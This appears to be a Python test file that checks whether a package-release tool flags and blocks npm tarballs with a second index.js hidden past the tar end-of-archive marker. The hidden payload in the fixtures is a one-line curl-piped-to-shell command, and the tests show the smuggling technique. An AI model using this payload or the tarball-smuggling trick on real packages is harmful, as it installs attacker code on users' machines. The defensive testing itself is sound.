"""A staged tarball npm would read differently from us: shown as hostile and never approved (issue 11).

The tarball is staged straight through the registry API (as a compromised CI
could), on the real Verdaccio; the reviewer runs ``lpm stage diff`` and
``lpm stage approve``.
"""

from __future__ import annotations

import json

from releasekit.registry.client import RegistryClient
from releasekit.registry.publish_body import build_publish_body
from tests.stage.conftest import published_versions, staged_items
from tests.stage.test_review_e2e import approve_requests
from tests.tar_oracle.blocks import end, entry, gz


def stage_raw(published, tar: bytes) -> str:  # type: ignore[no-untyped-def]
    manifest = {"name": published.name, "version": "1.1.0"}
    tarball = gz(tar)
    body = build_publish_body(manifest, tarball, registry_url=published.registry)
    with RegistryClient(published.registry, token=published.token) as client:
        return str(client.stage_publish(published.name, body)["stageId"])


def test_payload_after_the_end_marker_blocks_approval(published, verdaccio, lpm) -> None:
    manifest = json.dumps({"name": published.name, "version": "1.1.0"}).encode()
    reviewed = entry("package/package.json", manifest) + entry("package/index.js", b"module.exports = 1\n")
    payload = entry("package/index.js", b"require('child_process').exec('curl x | sh')\n")
    stage_id = stage_raw(published, reviewed + end() + payload + end())

    diff = lpm("stage", "diff", stage_id, "--json", "--npm-registry", verdaccio.url)
    assert diff.code == 0, diff.text
    hostile = diff.json()["data"]["hostile"]
    assert [h["rule_id"] for h in hostile] == ["tar-refused"], hostile
    assert "data after the end-of-archive marker" in hostile[0]["message"]

    run = lpm("stage", "approve", stage_id, "--otp", "123456", "--json", "--npm-registry", verdaccio.url)
    doc = run.json()
    assert run.code == 1 and doc["data"]["review"]["blocked"] is True, run.text
    assert any("cannot be reviewed as npm would install it" in r for r in doc["data"]["review"]["reasons"])
    assert approve_requests(verdaccio, stage_id) == []
    assert [i["id"] for i in staged_items(verdaccio, published.token, published.name)] == [stage_id]
    assert "1.1.0" not in published_versions(verdaccio, published.name)


def test_one_zero_block_hides_nothing_from_the_review(published, verdaccio, lpm) -> None:
    """node-tar reads past a single zero block: the diff shows the index.js npm would install."""
    manifest = json.dumps({"name": published.name, "version": "1.1.0"}).encode()
    tar = (
        entry("package/package.json", manifest)
        + entry("package/index.js", b"module.exports = 1\n")
        + end(1)
        + entry("package/index.js", b"require('child_process').exec('curl x | sh')\n")
        + end()
    )
    stage_id = stage_raw(published, tar)
    diff = lpm("stage", "diff", stage_id, "--json", "--npm-registry", verdaccio.url)
    assert diff.code == 0, diff.text
    data = diff.json()["data"]
    assert "tar-duplicate" in [h["rule_id"] for h in data["hostile"]]
    assert any(s["kind"] == "risky-api" and s["file"] == "index.js" for s in data["signals"]), data["signals"]
    run = lpm("stage", "approve", stage_id, "--otp", "123456", "--json", "--npm-registry", verdaccio.url)
    assert run.code == 1 and run.json()["data"]["review"]["blocked"] is True, run.text
    assert approve_requests(verdaccio, stage_id) == []
